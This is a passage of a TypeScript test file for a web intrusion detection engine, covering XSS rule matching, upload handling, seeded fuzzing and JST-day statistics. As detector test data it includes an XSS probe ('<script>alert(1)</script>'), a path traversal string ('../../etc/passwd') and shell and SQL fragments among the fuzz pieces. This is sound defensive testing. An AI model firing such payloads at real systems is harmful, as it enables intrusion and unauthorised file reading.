    expect(ruleIds(engine.inspect(rawBody(payload, 'application/json')))).toContain('XSS-001');
  });

  it('does not inspect the content of file uploads (stored data), only their name and headers', () => {
    const upload = (name: string, content: string) => base({ method: 'POST', path: '/api/v1/data/files', query: `name=${encodeURIComponent(name)}`, headers: { ...base().headers, 'content-type': 'text/html' }, body: content });
    expect(engine.inspect(upload('manual.html', '<script>alert(1)</script> ../../etc/passwd'))).toEqual([]);
    expect(ruleIds(engine.inspect(upload('<script>.html', 'ok')))).toContain('XSS-001');
    expect(engine.inspectDetailed(upload('a.pdf', 'x'.repeat(100_000))).bytesInspected).toBeLessThan(2000);
  });

  it('survives random input in every part of a request (seeded)', () => {
    let seed = 20261124;
    const rnd = () => {
      seed = (seed + 0x6d2b79f5) | 0;
      let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
    const junk = () => {
      const pieces = ['%', '%2', '%zz', '%00', '%c0%ae', '\u0000', '\u0001', '\uffff', '\ud800', '&#', '&#x110000;', '＜', '"', "'", '\\', '{', '[', '$(', '/*', '--', '\n', '\r', 'select', '<script', '..', 'あ', '💥', 'a'];
      return Array.from({ length: Math.floor(rnd() * 40) }, () => pieces[Math.floor(rnd() * pieces.length)]).join('');
    };
    for (let i = 0; i < 300; i++) {
      const req: IdsRequest = {
        method: rnd() < 0.9 ? 'POST' : junk(),
        path: `/${junk()}`,
        query: `${junk()}=${junk()}&where=${junk()}`,
        headers: { 'content-type': rnd() < 0.5 ? 'application/json' : junk(), 'x-j': junk(), cookie: [junk(), junk()] },
        body: rnd() < 0.5 ? `{"a":"${junk()}", ${junk()}` : Buffer.from(junk(), 'latin1'),
      };
      const r = engine.inspectDetailed(req);
      expect(r.findings.length).toBeLessThanOrEqual(32);
      for (const f of r.findings) expect(f.sample.length).toBeLessThanOrEqual(200);
    }
  });
});

describe('IDS statistics aggregation (Japan days)', () => {
  it('counts by class, JST day, customer and action', () => {
    const events = [
      { at: new Date('2026-11-23T14:59:59Z'), class: 'xss', customerId: 'c1', action: 'block' }, // 23:59:59 JST on the 23rd
      { at: new Date('2026-11-23T15:00:00Z'), class: 'xss', customerId: 'c1', action: 'block' }, // 00:00 JST on the 24th
      { at: new Date('2026-11-24T03:00:00Z'), class: 'scanner', customerId: null, action: 'log' },
      { at: new Date('2026-11-24T14:00:00Z'), class: 'sql_injection', customerId: 'c2', action: 'block' },
    ];
    const s = aggregate(events, { timeZone: 'Asia/Tokyo' });
    expect(s.total).toBe(4);
    expect(s.byClass).toEqual({ xss: 2, scanner: 1, sql_injection: 1 });
    expect(Object.entries(s.byDay)).toEqual([
      ['2026-11-23', 1],
      ['2026-11-24', 3],
    ]);
    expect(s.byDayAndClass['2026-11-24']).toEqual({ scanner: 1, sql_injection: 1, xss: 1 });
    expect(s.byCustomer).toEqual({ c1: 2, c2: 1 });
    expect(s.unattributed).toBe(1);
    expect(s.byAction).toEqual({ block: 3, log: 1 });
    expect([s.firstDay, s.lastDay]).toEqual(['2026-11-23', '2026-11-24']);
  });

  it('is empty for no events and refuses events without a valid time', () => {
    expect(aggregate([], { timeZone: 'Asia/Tokyo' })).toMatchObject({ total: 0, byClass: {}, firstDay: null, lastDay: null });
    expect(() => aggregate([{ at: new Date('nope'), class: 'xss', customerId: null, action: 'log' }], { timeZone: 'Asia/Tokyo' })).toThrow(/#0 has no valid time/);
  });
});
